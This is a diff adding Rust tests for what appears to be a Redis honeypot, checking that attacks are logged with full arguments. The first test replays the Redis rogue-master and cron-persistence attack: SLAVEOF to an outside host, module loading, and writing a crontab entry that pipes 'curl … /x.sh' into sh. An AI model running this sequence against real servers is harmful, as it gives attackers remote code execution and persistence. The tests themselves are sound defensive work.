@@ -732,3 +732,99 @@ async fn old_releases_answer_auth_as_they_did_and_writes_are_capped() {
         "-OOM command not allowed when used memory > 'maxmemory'.\r\n"
     );
 }
+
+#[tokio::test]
+async fn the_rogue_master_and_cron_attacks_are_captured_with_full_arguments() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut s = start(tmp.path(), "redis-rogue", &[("redis_version", "7.0.15")]).await;
+    let cron = "\n\n*/1 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n\n";
+    let set = format!(
+        "*3\r\n$3\r\nSET\r\n$6\r\nbackup\r\n${}\r\n{cron}\r\n",
+        cron.len()
+    );
+    let got = probe(
+        s.addr,
+        &[
+            b"SLAVEOF 203.0.113.7 21000\r\n",
+            b"CONFIG SET dbfilename exp.so\r\n",
+            b"MODULE LOAD ./exp.so\r\n",
+            b"SLAVEOF NO ONE\r\n",
+            b"CONFIG SET dir /var/spool/cron/crontabs\r\n",
+            set.as_bytes(),
+            b"EVAL \"return redis.call('get', 'backup')\" 0\r\n",
+            b"QUIT\r\n",
+        ],
+    )
+    .await;
+    assert_eq!(
+        got[..5],
+        [
+            "+OK\r\n",
+            "+OK\r\n",
+            "-ERR Error loading the extension. Please check the server logs.\r\n",
+            "+OK\r\n",
+            "+OK\r\n"
+        ]
+    );
+    // SLAVEOF NO ONE made it a master again: the write goes through.
+    assert_eq!(got[5], "+OK\r\n");
+    assert_eq!(got[6], format!("${}\r\n{cron}\r\n", cron.len()));
+    assert_eq!(got[7], "+OK\r\n");
+    let e = command_event(&mut s, "SLAVEOF").await;
+    assert_eq!(e.fields["command"], "SLAVEOF 203.0.113.7 21000");
+    assert_eq!(
+        (
+            e.fields["master_host"].as_str(),
+            e.fields["master_port"].as_i64()
+        ),
+        (Some("203.0.113.7"), Some(21000))
+    );
+    assert_eq!(e.fields["framing"], "inline");
+    let e = command_event(&mut s, "MODULE LOAD").await;
+    assert_eq!(e.fields["module"], "./exp.so");
+    assert_eq!(
+        e.fields["reply"],
+        "ERR Error loading the extension. Please check the server logs."
+    );
+    let up = s
+        .wait_type(EventType::FileUpload)
+        .await
+        .expect("file_upload");
+    assert_eq!(up.fields["payload"], "cron");
+    assert_eq!(
+        up.fields["sha256"],
+        hex::encode(Sha256::digest(cron.as_bytes()))
+    );
+    let e = command_event(&mut s, "EVAL").await;
+    assert_eq!(
+        e.fields["command"],
+        "EVAL \"return redis.call('get', 'backup')\" 0"
+    );
+    assert_eq!(e.fields["sha1"].as_str().unwrap().len(), 40);
+}
+
+#[tokio::test]
+async fn a_replica_refuses_writes_and_a_silent_visitor_is_a_scan() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut s = start(tmp.path(), "redis-replica", &[]).await;
+    let got = probe(
+        s.addr,
+        &[
+            b"REPLICAOF 203.0.113.7 6379\r\n",
+            b"SET a b\r\n",
+            b"INFO replication\r\n",
+            b"REPLICAOF NO ONE\r\n",
+            b"SET a b\r\n",
+        ],
+    )
+    .await;
+    assert_eq!(
+        got[1],
+        "-READONLY You can't write against a read only replica.\r\n"
+    );
+    assert!(got[2].contains("role:slave\r\nmaster_host:203.0.113.7\r\nmaster_port:6379\r\nmaster_link_status:down\r\n"), "{}", got[2]);
+    assert_eq!(got[4], "+OK\r\n");
+    drop(TcpStream::connect(s.addr).await.unwrap());
+    let e = s.wait_type(EventType::Scan).await.expect("scan");
+    assert_eq!(e.fields["bytes"], 0);
+}
